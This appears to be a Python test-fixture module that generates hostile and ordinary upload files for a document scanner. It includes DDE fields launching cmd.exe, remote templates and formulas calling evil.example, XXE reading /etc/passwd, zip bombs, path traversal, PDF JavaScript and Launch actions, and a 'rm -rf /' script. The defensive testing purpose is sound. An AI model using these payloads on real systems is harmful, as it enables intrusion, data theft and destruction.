"""The upload corpus (SECURITY.md C 20): what must never be stored as clean, and what people send every day."""

import base64
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

from tests.documents import making
from tests.documents.making import (
    changed,
    opendocument,
    ordinary_docx,
    ordinary_xlsx,
    package,
    pdf,
    pptx,
    relations,
    with_parts,
)

# In parts, so that no scanner stops at this file.
TEST_VIRUS = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = b"<html><script>alert(document.cookie)</script></html>"
PROGRAM = b"MZ\x90\x00" + bytes(60) + b"This program cannot be run in DOS mode."
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
DOCUMENT = "word/document.xml"
RELATIONS = "word/_rels/document.xml.rels"
JAVASCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
Case = tuple[str, str, bytes]


def hostile() -> Iterator[Case]:
    """What it is, the name it comes with, its bytes."""
    yield from _names()
    yield from _office()
    yield from _bombs()
    yield from _zips()
    yield from _opendocuments()
    yield from _pdfs()
    yield from _pictures()
    yield from _texts()


def _names() -> Iterator[Case]:
    good = pdf()
    yield "a program", "setup.exe", PROGRAM
    yield "a double extension", "report.pdf.exe", PROGRAM
    yield "a hidden extension", "report.exe.pdf", good
    yield "a name that turns", "report\u202efdp.exe.pdf", good
    yield "a name that is isolated", "invoice\u2067.pdf", good
    yield "a trailing dot", "setup.exe.", PROGRAM
    yield "a trailing space", "setup.exe ", PROGRAM
    yield "an alternate stream", "report.pdf:evil.exe", PROGRAM
    yield "a NUL in the name", "report.exe\x00.exe", PROGRAM
    yield "a device's name", "CON.pdf", good
    yield "no stem", ".pdf", good
    yield "no extension", "report", good
    yield "a picture with scripts", "logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    yield "a web page", "paper.html", SCRIPT
    yield "a script", "paper.js", b"alert(1)"
    yield "a disk image", "paper.iso", bytes(0x8001) + b"CD001" + bytes(2048)
    yield "a shortcut", "paper.lnk", b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(80)
    yield "a macro file", "paper.docm", ordinary_docx()
    yield "an old Word file", "paper.doc", OLE
    yield "a mail", "paper.eml", b"From: a@b.example\r\n\r\nHello"


def _office() -> Iterator[Case]:
    docx, xlsx = ordinary_docx(), ordinary_xlsx()
    main = "wordprocessingml.document.main+xml"
    yield "macros", "paper.docx", with_parts(docx, {"word/vbaProject.bin": OLE})
    yield "macros in other letters", "paper.docx", with_parts(docx, {"word/VBAProject.BIN": OLE})
    renamed = changed(
        docx,
        making.CONTENT_TYPES,
        f"application/vnd.openxmlformats-officedocument.{main}",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    yield "a docm renamed", "paper.docx", renamed
    renamed = changed(
        xlsx,
        making.CONTENT_TYPES,
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    yield "an xlsm renamed", "figures.xlsx", renamed
    yield "a macro sheet", "figures.xlsx", with_parts(xlsx, {"xl/macrosheets/sheet1.xml": "<a/>"})
    yield "ActiveX", "paper.docx", with_parts(docx, {"word/activeX/activeX1.xml": "<a/>"})
    yield "an OLE object", "paper.docx", with_parts(docx, {"word/embeddings/oleObject1.bin": OLE})
    yield "an OLE object called a picture", "paper.docx", with_parts(docx, {"word/media/image1.png": OLE})
    yield "a program as a picture of a document", "paper.docx", with_parts(docx, {"word/media/image1.png": PROGRAM})
    yield "a zip in a document", "paper.docx", with_parts(docx, {"word/embeddings/a.zip": package({"a": b"b"})})
    yield "a zip called a picture", "paper.docx", with_parts(docx, {"word/media/a.png": package({"a": b"b"})})
    inner = with_parts(xlsx, {"xl/vbaProject.bin": OLE})
    yield "macros in a chart's workbook", "slides.pptx", pptx({"ppt/embeddings/Sheet2.xlsx": inner})
    for what, rows in (
        ("a template from the web", ("attachedTemplate", "https://evil.example/a.dotm", "External")),
        ("a template from a share", ("attachedTemplate", "file://evil.example/a.dotm", "External")),
        ("a template from a share, written backwards", ("attachedTemplate", "\\\\evil.example\\a.dotm", "External")),
        ("a picture from the web", ("image", "http://evil.example/pixel.png", "External")),
        ("an object from the web", ("oleObject", "https://evil.example/a.html!", "External")),
        ("a page in a document", ("aFChunk", "afchunk.htm", "")),
        ("a link that runs", ("hyperlink", "javascript:alert(1)", "External")),
        ("a link into a share", ("hyperlink", "file://evil.example/a.exe", "External")),
        ("a link to a handler", ("hyperlink", "ms-msdt:/id PCWDiagnostic", "External")),
    ):
        yield what, "paper.docx", with_parts(docx, {"word/_rels/settings.xml.rels": relations(rows)})
    field = "<w:r><w:instrText>{}</w:instrText></w:r>"
    split = "<w:p>" + field.format("DDE") + field.format('AUTO c:\\\\windows\\\\cmd.exe "/k calc"') + "</w:p></w:body>"
    yield "a DDE field in pieces", "paper.docx", changed(docx, DOCUMENT, "</w:body>", split)
    simple = '<w:p><w:fldSimple w:instr="INCLUDEPICTURE https://evil.example/a.png"/></w:p></w:body>'
    yield "a field that loads", "paper.docx", changed(docx, DOCUMENT, "</w:body>", simple)
    yield "a DDE link", "figures.xlsx", with_parts(xlsx, {"xl/externalLinks/externalLink1.xml": "<a/>"})
    yield "a data connection", "figures.xlsx", with_parts(xlsx, {"xl/connections.xml": "<connections/>"})
    web = changed(xlsx, "xl/worksheets/sheet1.xml", "<f>A1*2</f>", '<f>WEBSERVICE("https://evil.example")</f>')
    yield "a formula that loads", "figures.xlsx", web
    entity = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    yield "an external entity", "paper.docx", with_parts(docx, {"word/extra.xml": entity})
    yield "a billion laughs", "paper.docx", with_parts(docx, {"word/extra.xml": laughs()})
    utf16 = '<?xml version="1.0" encoding="UTF-16"?><a/>'.encode("utf-16")
    yield "markup in another encoding", "paper.docx", with_parts(docx, {"word/extra.xml": utf16})
    yield "a spreadsheet called a document", "paper.docx", xlsx
    yield "any zip called a document", "paper.docx", package({"a.txt": b"hello"})
    yield "a page in a zip", "paper.docx", with_parts(docx, {"word/afchunk.htm": SCRIPT})
    yield "an encrypted document", "paper.docx", OLE + "EncryptedPackage".encode("utf-16le")
    yield "the test virus in a part", "paper.docx", with_parts(docx, {"word/media/image1.png": TEST_VIRUS})
    across = bytes(range(1, 255)) * 257 + bytes(range(1, 219))  # the signature lies across the 64 KB of one piece
    across += TEST_VIRUS + bytes(range(90))
    yield "the test virus across two pieces", "paper.docx", with_parts(docx, {"word/media/image1.png": across})
    yield (
        "the test virus in a workbook in slides",
        "slides.pptx",
        pptx({"ppt/embeddings/Sheet2.xlsx": with_parts(xlsx, {"xl/media/image1.png": TEST_VIRUS})}),
    )


def laughs() -> str:
    rows = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE a [<!ENTITY l0 "ha">{rows}]><a>&l9;</a>'


def _bombs() -> Iterator[Case]:
    docx = ordinary_docx()
    yield "a zip bomb", "paper.docx", with_parts(docx, {"word/media/image1.png": bytes(60_000_000)})
    many = {f"word/media/{n}.png": b"\x89PNG" + bytes(1_000) for n in range(4_500)}
    yield "thousands of parts", "paper.docx", with_parts(docx, many)
    yield "a bomb that lies about its size", "paper.docx", lying_about_size(docx)
    yield "parts that overlap", "paper.docx", overlapping(docx)
    deep = ordinary_xlsx()
    for _level in range(4):
        deep = with_parts(ordinary_xlsx(), {"xl/embeddings/Sheet.xlsx": deep})
    yield "workbooks in workbooks", "figures.xlsx", deep
    yield "a flood of pixels", "photo.png", making.png_that_claims(50_000, 50_000)
    yield "a pixel flood below Pillow's own limit", "photo.png", making.png_that_claims(9_000, 9_000)
    yield "a thousand frames", "moving.gif", making.moving_picture(300)
    stream = object_bomb()
    yield "an object stream that unpacks without end", "paper.pdf", pdf(stream)


def object_bomb() -> bytes:
    return making.object_stream(b"<</A 1>>" + b" " * 80_000_000)


def lying_about_size(docx: bytes) -> bytes:
    """The part says 1,000 bytes and unpacks to 40 million."""
    bomb = with_parts(docx, {"word/media/zz.png": bytes(40_000_000)})
    return bomb.replace(struct.pack("<I", 40_000_000), struct.pack("<I", 1_000))


def overlapping(docx: bytes) -> bytes:
    """Two entries of the list lead to the same bytes."""
    made = bytearray(with_parts(docx, {"word/media/a.png": b"\x89PNG" + bytes(5_000), "word/media/b.png": b"\x89PNG"}))
    with zipfile.ZipFile(io.BytesIO(bytes(made))) as archive:
        first = archive.getinfo("word/media/a.png").header_offset
    entry = made.rfind(b"PK\x01\x02", 0, made.rfind(b"word/media/b.png"))
    made[entry + 42 : entry + 46] = struct.pack("<I", first)
    return bytes(made)


def _zips() -> Iterator[Case]:
    docx = ordinary_docx()
    for what, name in (
        ("a path upwards", "../../evil.xml"),
        ("an absolute path", "/etc/cron.d/evil.xml"),
        ("a drive", "C:/evil.xml"),
        ("a path with backslashes", "word\\..\\..\\evil.xml"),
    ):
        yield what, "paper.docx", with_parts(docx, {name: "<a/>"})
    yield "the same part twice in other letters", "paper.docx", with_parts(docx, {"WORD/document.xml": "<a/>"})
    yield "a symbolic link", "paper.docx", with_link(docx)
    yield "a prefix before the zip", "paper.docx", SCRIPT + docx
    yield "a page after the zip", "paper.docx", docx + SCRIPT
    commented = bytearray(docx)
    commented[-2:] = struct.pack("<H", len(SCRIPT))
    yield "a page in the zip's comment", "paper.docx", bytes(commented) + SCRIPT
    yield "a program before the zip", "paper.docx", PROGRAM + docx
    yield "an encrypted part", "paper.docx", flagged_encrypted(docx)
    yield "half a document", "paper.docx", docx[: len(docx) // 2]
    yield "hidden bytes before the list of parts", "paper.docx", with_gap(docx)
    yield "hidden bytes between parts", "paper.docx", with_hidden_part(docx)
    other = with_parts(docx, {"word/media/a.png": making.picture("PNG")}).replace(b"media/a.png", b"media/a.exe", 1)
    yield "a part with two names", "paper.docx", other
    yield "a part inside another part", "paper.docx", with_part_inside(docx)


def with_link(docx: bytes) -> bytes:
    out = io.BytesIO(docx)
    with zipfile.ZipFile(out, "a") as archive:
        info = zipfile.ZipInfo("word/media/link.png")
        info.create_system, info.external_attr = 3, 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return out.getvalue()


def flagged_encrypted(docx: bytes) -> bytes:
    made = bytearray(docx)
    entry = made.find(b"PK\x01\x02")
    made[entry + 8] |= 1
    return bytes(made)


def with_gap(docx: bytes) -> bytes:
    """A page between the last part and the list of parts, with the list's place put right."""
    made = bytearray(docx)
    directory = struct.unpack("<I", made[-6:-2])[0]
    made[-6:-2] = struct.pack("<I", directory + len(SCRIPT))
    made[directory:directory] = SCRIPT
    return bytes(made)


def with_hidden_part(docx: bytes) -> bytes:
    """A part that stands between two others and is not in the list."""
    out = io.BytesIO(with_parts(docx, {"word/hidden.xml": "<a/>"}))
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/last.xml", "<a/>")
        del archive.NameToInfo["word/hidden.xml"]
        archive.filelist = [info for info in archive.filelist if info.filename != "word/hidden.xml"]
    return out.getvalue()


def with_part_inside(docx: bytes) -> bytes:
    """The whole of one part is the content of another: the way of the bombs that overlap (Fifield, 2019)."""
    name, text = b"word/inner.xml", b"<a/>"
    local = struct.pack(
        "<4s5H3I2H", b"PK\x03\x04", 20, 0, 0, 0, 33, zlib.crc32(text), len(text), len(text), len(name), 0
    )
    out = io.BytesIO(docx)
    with zipfile.ZipFile(out, "a") as archive:
        # A thumbnail of no known format: what it holds is not looked at.
        archive.writestr("word/media/outer.emf", b"\x01\x00\x00\x00" + local + name + text, zipfile.ZIP_STORED)
        outer = archive.getinfo("word/media/outer.emf")
        inner = zipfile.ZipInfo("word/inner.xml")
        inner.header_offset = outer.header_offset + 30 + len("word/media/outer.emf") + 4
        inner.file_size = inner.compress_size = len(text)
        inner.CRC = zlib.crc32(text)
        archive.filelist.append(inner)
        archive.NameToInfo[inner.filename] = inner
    return out.getvalue()


def _opendocuments() -> Iterator[Case]:
    yield "Basic in an OpenDocument", "paper.odt", opendocument(extra={"Basic/Standard/Module1.xml": "<a/>"})
    yield "a script in an OpenDocument", "paper.odt", opendocument(extra={"Scripts/python/a.py": "print()"})
    event = '<script:event-listener xlink:href="vnd.sun.star.script:a"/>'
    yield "an event in an OpenDocument", "paper.odt", opendocument(body=event)
    image = '<draw:image xlink:href="https://evil.example/pixel.png"/>'
    yield "a picture from the web in an OpenDocument", "paper.odt", opendocument(body=image)
    renamed = opendocument(body=image).replace(b"draw", b"text")
    yield "an OpenDocument of another kind", "paper.ods", renamed
    yield "an object in an OpenDocument", "paper.odt", opendocument(extra={"ObjectReplacements/Object 1": OLE})
    yield "an encrypted OpenDocument", "paper.odt", opendocument(body="<manifest:encryption-data/>")


def _pdfs() -> Iterator[Case]:
    yield "JavaScript", "paper.pdf", pdf(JAVASCRIPT, trailer=b"/OpenAction 5 0 R")
    escaped = b"<</S/J#61vaScript/#4AS(app.alert\\(1\\))>>"
    yield "JavaScript in disguise", "paper.pdf", pdf(escaped, trailer=b"/OpenAction 5 0 R")
    yield "JavaScript in an object stream", "paper.pdf", pdf(making.object_stream(JAVASCRIPT))
    hexed = making.object_stream(JAVASCRIPT, lambda data: data.hex().encode() + b">", b"/ASCIIHexDecode")
    yield "JavaScript in an object stream in hex", "paper.pdf", pdf(hexed)
    both = making.object_stream(
        JAVASCRIPT,
        lambda data: base64.a85encode(zlib.compress(data), adobe=False) + b"~>",
        b"[/ASCII85Decode/FlateDecode]",
    )
    yield "JavaScript in an object stream, twice packed", "paper.pdf", pdf(both)
    other = making.object_stream(JAVASCRIPT, lambda data: data, b"/LZWDecode")
    yield "an object stream in a packing that we do not read", "paper.pdf", pdf(other)
    yield "an object inside a text", "paper.pdf", pdf(b"<</Title(9 0 obj <</S/JavaScript/JS(x)>> endobj)>>")
    inside = b"9 0 obj " + JAVASCRIPT + b" endobj"
    yield "an object inside a stream", "paper.pdf", pdf(b"<</Length 60>>\nstream\n" + inside + b"\nendstream")
    yield "an open bracket before the object", "paper.pdf", pdf(b"(", JAVASCRIPT)
    yield "a comment in the object's head", "paper.pdf", pdf(b"null endobj 9 %x\n0 %y\nobj " + JAVASCRIPT)
    yield "a launch", "paper.pdf", pdf(b"<</S/Launch/F(cmd.exe)>>", trailer=b"/OpenAction 5 0 R")
    yield (
        "an address opened at opening",
        "paper.pdf",
        pdf(b"<</S/URI/URI(https://evil.example)>>", trailer=b"/OpenAction 5 0 R"),
    )
    yield "an attached file", "paper.pdf", pdf(b"<</Type/EmbeddedFile/Length 2>>\nstream\nMZ\nendstream")
    yield "an attached file by name", "paper.pdf", pdf(b"<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>")
    yield "rich media", "paper.pdf", pdf(b"<</Type/Annot/Subtype/RichMedia>>")
    yield "an XFA form", "paper.pdf", pdf(trailer=b"/AcroForm<</XFA 5 0 R>>")
    yield "additional actions", "paper.pdf", pdf(trailer=b"/AA<</WC 5 0 R>>")
    yield "a form that sends", "paper.pdf", pdf(b"<</S/SubmitForm/F(https://evil.example)>>")
    yield "an encrypted PDF", "paper.pdf", pdf().replace(b"/Root 1 0 R", b"/Root 1 0 R/Encrypt 9 0 R")
    yield "a page after the PDF", "paper.pdf", pdf() + SCRIPT
    yield "a zip after the PDF", "paper.pdf", pdf() + package({"a.txt": b"x"})
    zipped = package({"a.txt": b"x"})
    yield "a zip with the PDF's end as its comment", "paper.pdf", pdf() + zipped[:-2] + b"\x06\x00%%EOF\n"
    yield "a page before the PDF", "paper.pdf", SCRIPT + pdf()
    yield "a program before the PDF", "paper.pdf", PROGRAM + pdf()
    yield "a page in the PDF's head", "paper.pdf", b"%PDF-1.7\n%" + SCRIPT + b"\n" + pdf()[9:]
    yield "half a PDF", "paper.pdf", pdf()[:200]
    yield "no PDF at all", "paper.pdf", b"%PDF-1.7\nhello\n%%EOF"
    yield "the test virus in a stream", "paper.pdf", pdf(b"<</Length 70>>\nstream\n" + TEST_VIRUS + b"\nendstream")
    packed = zlib.compress(TEST_VIRUS)
    yield (
        "the test virus in a packed stream",
        "paper.pdf",
        pdf(b"<</Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream" % (len(packed), packed)),
    )
    yield "a Word file called PDF", "paper.pdf", ordinary_docx()


def _pictures() -> Iterator[Case]:
    yield "a page called a picture", "photo.png", SCRIPT
    yield "a program called a picture", "photo.jpg", PROGRAM
    yield "a vector picture called PNG", "photo.png", b'<svg xmlns="http://www.w3.org/2000/svg"/>'
    yield "a PNG called JPEG", "photo.jpg", making.picture("PNG")
    yield "half a picture", "photo.jpg", making.picture("JPEG", (900, 600))[:4000]
    yield "a page that begins like a GIF", "photo.gif", b"GIF89a/*" + SCRIPT + b"*/=1;"
    yield "a page after a picture", "photo.gif", making.moving_picture() + SCRIPT
    yield "a page inside a picture", "photo.jpg", making.picture("JPEG", comment=b"<SCRIPT>alert(1)</SCRIPT>")
    yield "a zip after a picture", "photo.png", making.picture("PNG") + package({"a.txt": b"x"})
    yield "an icon called PNG", "photo.png", making.picture("ICO")
    yield "a TIFF called PNG", "photo.png", making.picture("TIFF")
    yield "the test virus after a picture", "photo.png", making.picture("PNG") + TEST_VIRUS


def _texts() -> Iterator[Case]:
    yield "the test virus", "note.txt", TEST_VIRUS
    yield "the test virus in Markdown", "note.md", b"# Note\n\n" + TEST_VIRUS
    yield "the test virus in a table", "rows.csv", b"a,b\n1," + TEST_VIRUS
    yield "a program called text", "note.txt", PROGRAM
    yield "a page called text", "note.txt", SCRIPT
    yield "a page called Markdown", "note.md", b"\n <!DOCTYPE html><script>1</script>"
    yield "a shell script called text", "note.txt", b"#!/bin/sh\nrm -rf /\n"
    yield "a PDF called text", "note.txt", pdf()
    yield "bytes that are no text", "rows.csv", bytes(range(256)) * 4
    yield "NUL in a text", "note.txt", b"hello\x00world"
    yield "an archived page called text", "note.txt", b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n"
    yield "nothing", "note.txt", b""


def ordinary() -> Iterator[Case]:
    """Twenty and more files that firms and the regulator exchange."""
    yield "a Word file", "Response to the consultation.docx", ordinary_docx()
    yield "a Word file in Chinese", "回應文件（保管客戶資產）.docx", ordinary_docx("客戶資產須與平台自身資產分開。")
    local = relations(("attachedTemplate", "file:///C:\\Users\\mei\\Normal.dotm", "External"))
    yield (
        "a Word file from a template",
        "Letter.docx",
        with_parts(ordinary_docx(), {"word/_rels/settings.xml.rels": local}),
    )
    linked = relations(("hyperlink", "https://www.sfc.hk/", "External"), ("hyperlink", "../Annex%20A.docx", "External"))
    yield "a Word file with links", "Links.docx", with_parts(ordinary_docx(), {"word/_rels/footnotes.xml.rels": linked})
    pictured = with_parts(ordinary_docx(), {"word/media/image1.png": making.picture("PNG")})
    yield "a Word file with a picture", "Chart of custody v1.2.docx", pictured
    yield "a workbook", "figures.xlsx", ordinary_xlsx()
    yield "a workbook with a chart", "交易量.xlsx", making.ordinary_xlsx_with_chart()
    printer = with_parts(ordinary_xlsx(), {"xl/printerSettings/printerSettings1.bin": b"P\x00r\x00" * 300})
    yield "a workbook with a printer's settings", "figures 2026-11.xlsx", printer
    yield "slides with a chart", "Briefing.pptx", pptx()
    yield "an OpenDocument text", "回應.odt", opendocument()
    yield "an OpenDocument sheet", "figures.ods", opendocument("spreadsheet")
    yield "a PDF", "Consultation conclusions.pdf", making.typst_pdf()
    long = "\n".join(f"= Section {n}\n" + "Client assets 客戶資產。 " * 60 + "#pagebreak()" for n in range(40))
    yield "a long PDF", "諮詢總結.PDF", making.typst_pdf(long)
    linked_pdf = making.typst_pdf('See #link("https://www.sfc.hk/")[JavaScript (JS) and /Launch at the SFC].')
    yield "a PDF with links and the words of actions", "links.pdf", linked_pdf
    yield "a PDF that opens at its first page", "view.pdf", pdf(trailer=b"/OpenAction[3 0 R/Fit]")
    title = b"<</Title(About /JavaScript and /Launch \\(draft\\))/Creator(ASPIRe)>>"
    yield "a PDF whose title speaks of scripts", "title.pdf", pdf(title)
    yield "a photograph", "Vault.JPG", making.photograph_with_place()
    yield "a picture of a screen", "螢幕截圖 2026-11-24.png", making.picture("PNG", (1280, 800))
    yield "a moving picture", "demo.gif", making.moving_picture()
    yield "a WebP picture", "photo.webp", making.photograph_with_place("WEBP")
    yield "a table", "positions.csv", "name,資產\r\nHarbour,100\r\n=1+1,-5\r\n".encode("utf-8-sig")
    yield "a table in Big5", "名單.csv", "平台,資產\r\n海港交易所,一百萬元\r\n".encode("big5")
    yield "a note in GB 18030", "说明.txt", "客户资产应当与平台自有资产分开保管，并由独立机构核对。".encode("gb18030")
    yield "a note", "note.txt", b"Paragraph 16: we agree.\n"
    yield "Markdown", "Comments.md", "# 意見\n\n- <https://www.sfc.hk/>\n- **agree** with question 3\n".encode()
    yield "text from Excel", "unicode.txt", "a\t資產\r\n".encode("utf-16")


def write(folder: Path, cases: Callable[[], Iterator[Case]] = hostile) -> list[tuple[str, Path]]:
    """The corpus in files, for a child process that has not made it itself: names and places."""
    found = []
    for number, (_what, name, content) in enumerate(cases()):
        path = folder / f"{number:03}"
        path.write_bytes(content)
        found.append((name, path))
    return found
